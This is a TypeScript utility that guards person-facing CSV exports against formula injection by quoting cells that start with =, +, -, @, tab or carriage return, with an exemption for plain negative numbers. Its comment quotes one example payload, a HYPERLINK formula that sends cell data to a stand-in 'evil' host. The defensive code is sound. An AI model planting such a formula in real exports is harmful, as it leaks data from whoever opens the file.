/**
 * CSV injection (OWASP, "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
 * formula, and tab or carriage return can hide such a start. Source values are the customer's data and may be
 * hostile (`=HYPERLINK("http://evil/?"&A1)`), so every CSV written for a person to open prefixes those cells with a
 * single quote, which makes the spreadsheet show them as text. A value that already starts with a quote gets one more,
 * so that reading the file back can always remove exactly one and get the original value. JSON outputs keep values
 * exact and do not go through here. A negative number that a spreadsheet shows and saves back exactly as written
 * (`-5`, `-1234.5`: no leading zero, no trailing decimal zero, no grouping, at most 15 digits) is left alone, since a
 * quote in front of every negative amount made the reports wrong to sum; `+44` is still quoted, because a spreadsheet
 * would save it back as `44`.
 */
const FORMULA_START = new Set(['=', '+', '-', '@', '\t', '\r']);
const SIGNED_NUMBER = /^-(?:[1-9]\d{0,14}|0(?=\.))(?:\.\d{0,13}[1-9])?$/;

export function neutraliseCell(value: string): string {
  const first = value.charAt(0);
  if (first === "'") return `'${value}`;
  return FORMULA_START.has(first) && !SIGNED_NUMBER.test(value) ? `'${value}` : value;
}

/** The value a person-facing CSV cell was written from: undoes `neutraliseCell`. */
export function restoreCell(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}
